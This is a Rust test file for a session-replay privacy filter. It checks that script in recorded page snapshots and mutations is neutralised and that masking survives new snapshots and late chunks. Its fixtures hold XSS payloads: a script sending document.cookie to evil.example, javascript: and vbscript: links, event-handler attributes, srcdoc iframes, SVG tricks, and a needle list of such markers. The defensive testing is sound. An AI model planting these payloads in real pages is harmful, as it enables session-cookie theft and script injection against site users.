//! Live script in snapshots and mutations is neutralized at ingest, keeping the node
//! structure; and what a new full snapshot resets and what it keeps.

use crate::events::{el, node, txt};
use serde_json::{json, Value};

use veilgate::privacy::{mask_serde_events, MaskPolicy, MaskState};

fn snapshot(body: Vec<Value>) -> Value {
    json!({"type": 2, "timestamp": 1, "data": {"initialOffset": {"top": 0, "left": 0}, "node": {
    "type": 0, "id": 1, "childNodes": [
        {"type": 1, "id": 2, "name": "html", "publicId": "", "systemId": ""},
        el(3, "html", json!({}), vec![el(4, "head", json!({}), vec![]), el(7, "body", json!({}), body)]),
    ]}}})
}

fn mutation(data: Value) -> Value {
    let mut d = json!({"source": 0, "adds": [], "texts": [], "attributes": [], "removes": []});
    for (k, v) in data.as_object().unwrap() {
        d[k] = v.clone();
    }
    json!({"type": 3, "timestamp": 2, "data": d})
}

fn run(events: Vec<Value>, state: &mut MaskState) -> Vec<Value> {
    let mut evs = events;
    mask_serde_events(&mut evs, &MaskPolicy::default(), state);
    evs
}

/// What a hostile page (or a hostile beacon) plants: every way to run script in a replay.
const LIVE: &[&str] = &[
    "evil.example",
    "document.cookie",
    "alert(",
    "onerror",
    "onload",
    "onclick",
    "ONMOUSEOVER",
    "javascript:",
    "script&#58;",
    "vbscript:",
    "text/html",
    "srcdoc",
];

fn assert_no_live_script(evs: &[Value]) {
    let text = serde_json::to_string(evs).unwrap();
    let lower = text.to_ascii_lowercase();
    for needle in LIVE {
        assert!(
            !lower.contains(&needle.to_ascii_lowercase()),
            "{needle:?} stored: {text}"
        );
    }
}

fn hostile_page() -> Vec<Value> {
    vec![
        el(
            10,
            "script",
            json!({"type": "text/javascript"}),
            vec![txt(11, "fetch('//evil.example/'+document.cookie)")],
        ),
        el(
            12,
            "img",
            json!({"src": "/x.png", "onerror": "alert(1)", "ONMOUSEOVER": "alert(2)"}),
            vec![],
        ),
        el(
            13,
            "a",
            json!({"href": "javascript:alert(document.cookie)"}),
            vec![txt(14, "Click")],
        ),
        el(
            15,
            "a",
            json!({"href": " JaVa\tScRiPt&#58;alert(3)"}),
            vec![],
        ),
        el(
            16,
            "iframe",
            json!({"srcdoc": "<script>alert(4)</script>", "src": "data:text/html,<script>alert(5)</script>"}),
            vec![],
        ),
        el(
            17,
            "form",
            json!({"action": "vbscript:msgbox(6)"}),
            vec![el(
                18,
                "button",
                json!({"formaction": "javascript:alert(7)", "onclick": "alert(8)"}),
                vec![txt(19, "Go")],
            )],
        ),
        el(
            20,
            "svg",
            json!({"onload": "alert(9)"}),
            vec![
                json!({"type": 2, "id": 21, "tagName": "a", "isSVG": true, "attributes": {"xlink:href": "javascript:alert(10)"}, "childNodes": [
                    json!({"type": 2, "id": 22, "tagName": "set", "isSVG": true, "attributes": {"attributeName": "href", "to": "javascript:alert(11)"}, "childNodes": []})
                ]}),
                json!({"type": 2, "id": 23, "tagName": "script", "isSVG": true, "attributes": {"href": "https://evil.example/x.js"}, "childNodes": [txt(24, "alert(12)")]}),
            ],
        ),
        el(
            25,
            "script",
            json!({"src": "https://evil.example/x.js"}),
            vec![],
        ),
        el(
            26,
            "img",
            json!({"src": "data:image/svg+xml,<svg/>"}),
            vec![],
        ),
        el(
            27,
            "p",
            json!({"class": "note"}),
            vec![txt(28, "Plain text stays")],
        ),
    ]
}

#[test]
fn full_snapshot_keeps_structure_without_live_script() {
    let mut state = MaskState::default();
    let evs = run(vec![snapshot(hostile_page())], &mut state);
    assert_no_live_script(&evs);
    // Structure kept: every node is still there, with rrweb's own placeholder for script text.
    for id in 10..=28 {
        assert!(node(&evs, id).is_some(), "node {id} kept");
    }
    assert_eq!(node(&evs, 11).unwrap()["textContent"], "SCRIPT_PLACEHOLDER");
    assert_eq!(node(&evs, 24).unwrap()["textContent"], "SCRIPT_PLACEHOLDER");
    assert_eq!(
        node(&evs, 13).unwrap()["attributes"]["href"],
        "about:blank#blocked"
    );
    assert_eq!(node(&evs, 12).unwrap()["attributes"]["src"], "/x.png");
    assert_eq!(
        node(&evs, 10).unwrap()["attributes"]["type"],
        "text/javascript"
    );
    assert_eq!(node(&evs, 25).unwrap()["attributes"], json!({}));
    assert_eq!(
        node(&evs, 26).unwrap()["attributes"]["src"],
        "data:image/svg+xml,<svg/>",
        "an SVG image is an image"
    );
    assert_eq!(node(&evs, 28).unwrap()["textContent"], "Plain text stays");
}

#[test]
fn mutations_cannot_bring_script_back() {
    let mut state = MaskState::default();
    run(vec![snapshot(hostile_page())], &mut state);
    // A later chunk: attribute changes on existing nodes, a text change of the script's
    // text node and of the script element itself, and added nodes.
    let evs = run(
        vec![mutation(json!({
            "attributes": [
                {"id": 27, "attributes": {"onclick": "alert(20)", "class": "note x"}},
                {"id": 13, "attributes": {"href": "javascript:alert(21)"}},
                {"id": 16, "attributes": {"srcdoc": "<script>alert(22)</script>"}},
                {"id": 25, "attributes": {"src": "https://evil.example/y.js"}},
                {"id": 12, "attributes": {"src": "https://shop.example/ok.png"}}
            ],
            "texts": [
                {"id": 11, "value": "fetch('//evil.example/'+document.cookie)"},
                {"id": 10, "value": "alert(23)"},
                {"id": 28, "value": "New plain text"}
            ],
            "adds": [
                {"parentId": 7, "nextId": null, "node": el(40, "script", json!({}), vec![txt(41, "alert(24)")])},
                {"parentId": 10, "nextId": null, "node": txt(42, "alert(25)")},
                {"parentId": 7, "nextId": null, "node": el(43, "div", json!({"onmouseover": "alert(26)"}), vec![])}
            ]
        }))],
        &mut state,
    );
    assert_no_live_script(&evs);
    let d = &evs[0]["data"];
    assert_eq!(d["attributes"][0]["attributes"], json!({"class": "note x"}));
    assert_eq!(
        d["attributes"][1]["attributes"]["href"],
        "about:blank#blocked"
    );
    assert_eq!(d["attributes"][2]["attributes"], json!({}));
    assert_eq!(
        d["attributes"][3]["attributes"],
        json!({}),
        "a script's src"
    );
    assert_eq!(
        d["attributes"][4]["attributes"]["src"],
        "https://shop.example/ok.png"
    );
    assert_eq!(d["texts"][0]["value"], "SCRIPT_PLACEHOLDER");
    assert_eq!(d["texts"][1]["value"], "SCRIPT_PLACEHOLDER");
    assert_eq!(d["texts"][2]["value"], "New plain text");
    assert_eq!(node(&evs, 41).unwrap()["textContent"], "SCRIPT_PLACEHOLDER");
    assert_eq!(node(&evs, 42).unwrap()["textContent"], "SCRIPT_PLACEHOLDER");
    assert!(node(&evs, 43).is_some());
}

#[test]
fn rrweb_recorded_script_text_is_unchanged() {
    // What rrweb itself records is already neutral: masking it again changes nothing.
    let page = vec![el(
        10,
        "script",
        json!({"type": "module"}),
        vec![txt(11, "SCRIPT_PLACEHOLDER")],
    )];
    let before = vec![snapshot(page)];
    let after = run(before.clone(), &mut MaskState::default());
    assert_eq!(after, before);
}

// ---- item 7: state across a new full snapshot ---------------------------------------------

fn forms_policy() -> MaskPolicy {
    MaskPolicy::from_json(&json!({"record": {"forms": true}})).unwrap()
}

fn run_seq(events: Vec<Value>, seq: u32, policy: &MaskPolicy, state: &mut MaskState) -> Vec<Value> {
    let mut evs = events;
    veilgate::privacy::mask_serde_chunk(&mut evs, Some(seq), policy, state);
    evs
}

fn input_event(id: u32, text: &str) -> Value {
    json!({"type": 3, "timestamp": 3, "data": {"source": 5, "id": id, "text": text, "isChecked": false}})
}

fn login(ty: &str, value: &str) -> Vec<Value> {
    vec![
        el(
            20,
            "input",
            json!({"type": ty, "name": "pw", "value": value}),
            vec![],
        ),
        el(
            21,
            "input",
            json!({"type": "text", "name": "city", "value": "Lyon"}),
            vec![],
        ),
        el(
            22,
            "div",
            json!({"class": "rr-mask"}),
            vec![txt(23, "Hidden words")],
        ),
    ]
}

#[test]
fn a_new_snapshot_keeps_secret_inputs_secret() {
    let pol = forms_policy();
    let mut state = MaskState::default();
    run_seq(vec![snapshot(login("password", ""))], 0, &pol, &mut state);
    // The page's script reveals the password (a "show password" toggle).
    run_seq(
        vec![mutation(
            json!({"attributes": [{"id": 20, "attributes": {"type": "text"}}]}),
        )],
        1,
        &pol,
        &mut state,
    );
    // A new full snapshot shows a plain text input with the password in it.
    let evs = run_seq(
        vec![
            snapshot(login("text", "hunter2")),
            input_event(20, "hunter22"),
        ],
        2,
        &pol,
        &mut state,
    );
    assert_eq!(node(&evs, 20).unwrap()["attributes"]["value"], "*******");
    assert_eq!(evs[1]["data"]["text"], "********");
    // Tree facts are re-derived, not carried: the harmless input is recorded (forms on).
    assert_eq!(node(&evs, 21).unwrap()["attributes"]["value"], "Lyon");
    let later = run_seq(vec![input_event(20, "hunter222")], 3, &pol, &mut state);
    assert_eq!(later[0]["data"]["text"], "*********");
}

#[test]
fn a_new_snapshot_resets_tree_facts() {
    let pol = forms_policy();
    let mut state = MaskState::default();
    run_seq(vec![snapshot(login("password", ""))], 0, &pol, &mut state);
    // Next page: ids restart, and node 23 is now plain text outside any masked area.
    let page2 = vec![
        el(20, "p", json!({}), vec![]),
        el(21, "p", json!({}), vec![]),
        el(22, "p", json!({}), vec![txt(23, "Welcome back")]),
    ];
    let evs = run_seq(vec![snapshot(page2)], 5, &pol, &mut state);
    assert_eq!(node(&evs, 23).unwrap()["textContent"], "Welcome back");
    let t = run_seq(
        vec![mutation(
            json!({"texts": [{"id": 23, "value": "Hello again"}]}),
        )],
        6,
        &pol,
        &mut state,
    );
    assert_eq!(t[0]["data"]["texts"][0]["value"], "Hello again");
}

#[test]
fn a_chunk_older_than_the_snapshot_is_masked_fail_safe() {
    let pol = forms_policy();
    let mut state = MaskState::default();
    // seq 0: page 1, node 23 inside a masked area. seq 2: page 2, node 23 plain.
    run_seq(vec![snapshot(login("password", ""))], 0, &pol, &mut state);
    let page2 = vec![el(22, "p", json!({}), vec![txt(23, "Welcome")])];
    run_seq(vec![snapshot(page2)], 2, &pol, &mut state);
    let before = state.clone();
    // seq 1 arrives last (a retry): it belongs to page 1, where node 23 was masked and node
    // 21 a form field. Masked against page 2's facts it would leak; it is masked fully.
    let late = run_seq(
        vec![
            mutation(json!({"texts": [{"id": 23, "value": "Secret words"}]})),
            input_event(21, "Paris"),
            input_event(20, "hunter2"),
        ],
        1,
        &pol,
        &mut state,
    );
    assert_eq!(late[0]["data"]["texts"][0]["value"], "****** *****");
    assert_eq!(late[1]["data"]["text"], "*****");
    assert_eq!(late[2]["data"]["text"], "*******");
    assert_eq!(state, before, "a late chunk leaves the session state alone");
    // The in-order chunk after it is masked by page 2's facts as before.
    let next = run_seq(
        vec![mutation(json!({"texts": [{"id": 23, "value": "Hi"}]}))],
        3,
        &pol,
        &mut state,
    );
    assert_eq!(next[0]["data"]["texts"][0]["value"], "Hi");
}
